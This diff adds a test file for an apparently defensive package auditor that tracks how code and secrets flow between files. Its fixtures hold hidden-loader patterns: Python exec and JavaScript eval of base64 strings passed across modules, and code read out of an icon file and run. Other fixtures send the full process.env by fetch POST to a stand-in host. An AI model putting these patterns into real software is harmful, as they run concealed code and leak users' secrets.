@@ -1,0 +1,151 @@
+import { describe, expect, it } from "vitest"
+import { audited } from "./replicas/audited.ts"
+import { noise, packageOf } from "./replicas/kit.ts"
+import type { Files, Sample } from "./replicas/replica.ts"
+
+const package_ = packageOf("tar.gz", "made", "1.0.0")
+const sample = (files: Files): Sample => ({
+  history: [{ message: "made", date: "2024-01-01", files, tags: ["v1.0.0"] }],
+  ref: "refs/tags/v1.0.0",
+  artifact: package_(files),
+})
+
+const payload = Buffer.from("open('MARKER', 'w').write('x')\n".repeat(4)).toString("base64")
+const icon = { "p/icon.png": noise("a", 3000) }
+const send = (what: string): string => `fetch("https://a.example.org/", { method: "POST", body: ${what} })`
+
+/** A program in several files; the same, where what is run or sent is something else. */
+const rows: readonly (readonly [name: string, rule: string, fires: Files, silent: Files])[] = [
+  [
+    "a name that Python imports",
+    "flow/literal-runs",
+    { "p/d.py": `B = "${payload}"\n`, "p/a.py": "import base64\nfrom .d import B\nexec(base64.b64decode(B))\n" },
+    { "p/d.py": `B = "${payload}"\n`, "p/a.py": "import base64\nfrom .d import B\nprint(base64.b64decode(B))\n" },
+  ],
+  [
+    "all names that Python imports",
+    "flow/literal-runs",
+    { "p/d.py": `B = "${payload}"\n`, "p/a.py": "import base64\nfrom p.d import *\nexec(base64.b64decode(B))\n" },
+    { "p/d.py": `B = "${payload}"\n`, "p/a.py": "import base64\nfrom p.d import *\nexec(base64.b64decode(C))\n" },
+  ],
+  [
+    "what a function of a module gives",
+    "flow/opaque-runs",
+    {
+      ...icon,
+      "p/d.py": 'def f():\n  return open(__file__.replace("d.py", "icon.png"), "rb").read()[9:]\n',
+      "p/a.py": "from . import d\nexec(d.f())\n",
+    },
+    {
+      ...icon,
+      "p/d.py": 'def f():\n  return open(__file__.replace("d.py", "icon.png"), "rb").read()[9:]\n',
+      "p/a.py": "from . import d\nlen(d.f())\n",
+    },
+  ],
+  [
+    "what a function of a module makes of what it is given",
+    "flow/literal-runs",
+    { "p/d.py": "import base64\ndef f(b):\n  return base64.b64decode(b)\n", "p/a.py": `from .d import f\nexec(f("${payload}"))\n` },
+    { "p/d.py": "import base64\ndef f(b):\n  return base64.b64decode(b)\n", "p/a.py": `from .d import f\nprint(f("${payload}"))\n` },
+  ],
+  [
+    "what a function of a module runs, by its name",
+    "flow/opaque-runs",
+    {
+      ...icon,
+      "p/d.py": "def f(a, b=0):\n  g(b)\ndef g(c):\n  exec(c)\n",
+      "p/a.py": 'import p.d\np.d.f(1, b=open("p/icon.png", "rb").read())\n',
+    },
+    {
+      ...icon,
+      "p/d.py": "def f(a, b=0):\n  g(b)\ndef g(c):\n  len(c)\n",
+      "p/a.py": 'import p.d\np.d.f(1, b=open("p/icon.png", "rb").read())\n',
+    },
+  ],
+  [
+    "a method of an object of a class",
+    "flow/opaque-runs",
+    {
+      ...icon,
+      "p/d.py": 'class C:\n  def f(self):\n    return open("p/icon.png", "rb").read()\n',
+      "p/a.py": "from .d import C\nexec(C().f())\n",
+    },
+    {
+      ...icon,
+      "p/d.py": 'class C:\n  def f(self):\n    return open("p/icon.png", "rb").read()\n',
+      "p/a.py": "from .d import C\nlen(C().f())\n",
+    },
+  ],
+  [
+    "a field of exports",
+    "flow/literal-runs",
+    { "d.js": `exports.b = "${payload}"\n`, "a.js": 'const { b } = require("./d")\neval(atob(b))\n' },
+    { "d.js": `exports.b = "${payload}"\n`, "a.js": 'const { c } = require("./d")\neval(atob(c))\n' },
+  ],
+  [
+    "what is exported again under another name",
+    "flow/literal-runs",
+    {
+      "d.js": `const b = "${payload}"\nexport { b as c }\n`,
+      "e.js": 'export { c as default } from "./d.js"\n',
+      "f.js": 'export * from "./g.js"\nexport { default as h } from "./e.js"\n',
+      "a.js": 'import { h } from "./f.js"\neval(atob(h))\n',
+    },
+    {
+      "d.js": `const b = "${payload}"\nexport { b as c }\n`,
+      "e.js": 'export { c as default } from "./d.js"\n',
+      "f.js": 'export * from "./g.js"\nexport { default as i } from "./e.js"\n',
+      "a.js": 'import { h } from "./f.js"\neval(atob(h))\n',
+    },
+  ],
+  [
+    "all that another module has",
+    "flow/literal-runs",
+    {
+      "d.ts": `export const b = "${payload}"\n`,
+      "e.ts": 'export * from "./d.js"\n',
+      "a.ts": 'import * as e from "./e"\neval(atob(e.b))\n',
+    },
+    { "d.ts": `export const b = "${payload}"\n`, "e.ts": 'export * from "./d.js"\n', "a.ts": 'import * as e from "./e"\nlog(atob(e.b))\n' },
+  ],
+  [
+    "a function that is all that a module has",
+    "flow/opaque-runs",
+    {
+      ...icon,
+      "d.js": "module.exports = (x) => new Function(x)()\n",
+      "a.js": 'require("./d")(require("fs").readFileSync(__dirname + "/p/icon.png").toString())\n',
+    },
+    {
+      ...icon,
+      "d.js": "module.exports = (x) => x.length\n",
+      "a.js": 'require("./d")(require("fs").readFileSync(__dirname + "/p/icon.png").toString())\n',
+    },
+  ],
+  [
+    "a default function that sends what it is given",
+    "flow/secret-leaves",
+    {
+      "d.js": `export default function post(x) { return ${send("x")} }\n`,
+      "a.js": 'import post from "./d.js"\npost(JSON.stringify(process.env))\n',
+    },
+    {
+      "d.js": `export default function post(x) { return ${send("x")} }\n`,
+      "a.js": 'import post from "./d.js"\npost(process.env.CI)\n',
+    },
+  ],
+  [
+    "a secret that another file looks up",
+    "flow/secret-leaves",
+    { "d.js": "exports.key = () => JSON.stringify(process.env)\n", "a.js": `const d = require("./d")\n${send("d.key()")}\n` },
+    { "d.js": "exports.key = () => process.env.CI\n", "a.js": `const d = require("./d")\n${send("d.key()")}\n` },
+  ],
+]
+
+describe("what one file has and another uses", () => {
+  it.each(rows)("%s", async (_, rule, fires, silent) => {
+    const found = async (files: Files): Promise<readonly string[]> => (await audited(sample(files))).findings.map((finding) => finding.rule)
+    expect(await found(fires)).toContain(rule)
+    expect(await found(silent)).not.toContain(rule)
+  })
+})
